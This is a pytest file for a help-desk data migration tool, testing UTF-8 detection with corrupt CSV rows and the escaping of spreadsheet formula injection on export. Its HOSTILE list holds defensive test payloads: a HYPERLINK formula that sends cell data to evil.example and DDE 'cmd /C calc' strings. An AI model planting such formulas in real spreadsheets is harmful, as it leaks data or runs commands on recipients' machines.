"""Hostile CSV: encoding detection that one bad row cannot decide, and formula injection."""

from __future__ import annotations

import pytest

from deskmove.model import Message, Person, Ticket
from deskmove.sync import import_source
from tests.csvhelp import MESSAGE_HEADER, TICKET_HEADER, message_row, ticket_row, write_csv
from tests.test_csv_source import quarantined, rows

RUSSIAN = "Здравствуйте, мой заказ № 42 не пришёл. Ирина Петрова "


def _big_messages(folder, shift: int) -> bytes:
    """A valid UTF-8 messages.csv bigger than the detection sample, all Cyrillic bodies."""
    write_csv(folder / "tickets.csv", TICKET_HEADER, [ticket_row(str(t)) for t in range(1, 11)])
    rows = [
        message_row(str(i), str(1 + i % 10), body="ё" * shift + RUSSIAN * 12) for i in range(1, 801)
    ]
    path = write_csv(folder / "messages.csv", MESSAGE_HEADER, rows)
    return path.read_bytes()


@pytest.mark.parametrize("shift", range(4), ids=lambda s: f"shift{s}")
def test_valid_utf8_with_one_broken_quote_imports_the_rest(project, store, tmp_path, shift):
    folder = tmp_path / "in"
    data = _big_messages(folder, shift)
    assert len(data) > 512 * 1024
    cut = data.index(b"\r\n", len(data) // 3) + 2
    broken = (
        b'9999,1,,,a@b.cz,A,inbound,true,2024-03-01T09:30:00Z,,"unclosed '
        + RUSSIAN.encode()
        + b",,0\r\n"
    )
    (folder / "messages.csv").write_bytes(data[:cut] + broken + data[cut:])
    rep = import_source(project, store, f"csv:{folder}")
    assert "messages.csv: utf-8" in " ".join(rep.notes)
    assert rep.counts.new["message"] == 800 and rep.quarantined == 1 and rep.balanced


@pytest.mark.parametrize("where", [0.0, 0.3, 0.6], ids=["head", "third", "middle"])
def test_one_invalid_utf8_sequence_quarantines_its_row_only(project, store, tmp_path, where):
    folder = tmp_path / "in"
    data = _big_messages(folder, 0)
    cut = data.index(b"\r\n", int(len(data) * where)) + 2
    bad = b"9998,1,,,a@b.cz,A,inbound,true,2024-03-01T09:30:00Z,,Chybn\xe9 k\xf3dov\xe1n\xed,,0\r\n"
    (folder / "messages.csv").write_bytes(data[:cut] + bad + data[cut:])
    rep = import_source(project, store, f"csv:{folder}")
    assert "messages.csv: utf-8" in " ".join(rep.notes)
    assert rep.counts.new["message"] == 800 and rep.quarantined == 1
    assert quarantined(store)[0][1].endswith("is not valid utf-8 text")


def test_a_small_czech_file_with_one_bad_byte_stays_utf8(project, store, tmp_path):
    path = write_csv(
        tmp_path / "t.csv",
        TICKET_HEADER,
        [ticket_row(str(i), "Objednávka č. 42") for i in range(1, 4)],
    )
    path.write_bytes(path.read_bytes() + b"4,,,Chybn\xe9,open,,,email,,,,,,,,,,\r\n")
    rep = import_source(project, store, f"csv:{path}")
    assert rep.notes[0].startswith("t.csv: utf-8")
    assert rep.imported == 3 and rep.quarantined == 1


# -- formula injection -------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikněte")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'quoted from the start",
    "''=already escaped once?",
    "Plain text, not touched",
]


def _hostile_folder(tmp_path):
    folder = tmp_path / "hostile"
    tickets = [ticket_row(str(i), subject=s, tags="=tag") for i, s in enumerate(HOSTILE, 1)]
    messages = [
        message_row(str(i), str(i), body=s, author_name=s, author_email=f"c{i}@x.example")
        for i, s in enumerate(HOSTILE, 1)
    ]
    write_csv(folder / "tickets.csv", TICKET_HEADER, tickets)
    write_csv(folder / "messages.csv", MESSAGE_HEADER, messages)
    return folder


def _cells(folder):
    import csv

    for name in ("tickets.csv", "messages.csv", "people.csv"):
        with (folder / name).open(encoding="utf-8", newline="") as f:
            yield from (cell for row in csv.reader(f) for cell in row)


def test_export_neutralises_formula_cells_and_import_gives_back_the_exact_text(
    project, store, tmp_path
):
    from tests.csvhelp import dump
    from tests.test_roundtrip import fresh

    rep = import_source(project, store, f"csv:{_hostile_folder(tmp_path)}")
    assert rep.imported and not rep.quarantined
    from deskmove.sync import export_target

    out = tmp_path / "out"
    export_target(project, store, f"csv:{out}")
    cells = list(_cells(out))
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klikněte")' in cells
    assert "'''=already escaped once?" in cells and "Plain text, not touched" in cells
    other_project, other_store = fresh(tmp_path / "again")
    import_source(other_project, other_store, f"csv:{out}")
    try:
        assert dump(other_store) == dump(store)
        assert sorted(r[0] for r in rows(other_store, Ticket, "subject")) == sorted(HOSTILE)
        assert sorted(r[0] for r in rows(other_store, Message, "body_text")) == sorted(HOSTILE)
        assert set(HOSTILE) <= {r[0] for r in rows(other_store, Person, "name")}
    finally:
        other_store.close()


def test_formulas_raw_keeps_the_values_for_machines(project, store, tmp_path):
    from deskmove.sync import export_target

    import_source(project, store, f"csv:{_hostile_folder(tmp_path)}")
    out = tmp_path / "raw"
    export_target(project, store, f"csv:{out}?formulas=raw")
    cells = list(_cells(out))
    assert "+cmd|' /C calc'!A0" in cells and "'quoted from the start" in cells


def test_a_leading_quote_in_someone_elses_csv_is_kept(project, store, tmp_path):
    path = write_csv(tmp_path / "t.csv", TICKET_HEADER, [ticket_row("1", subject="'Quoted' title")])
    import_source(project, store, f"csv:{path}")
    assert rows(store, Ticket, "subject") == [("'Quoted' title",)]


def test_an_unknown_formulas_mode_is_refused(cli, tmp_path):
    result = cli("export", f"csv:{tmp_path / 'x'}?formulas=maybe")
    assert result.exit_code == 2
    assert "?formulas=maybe is not a mode" in result.stderr
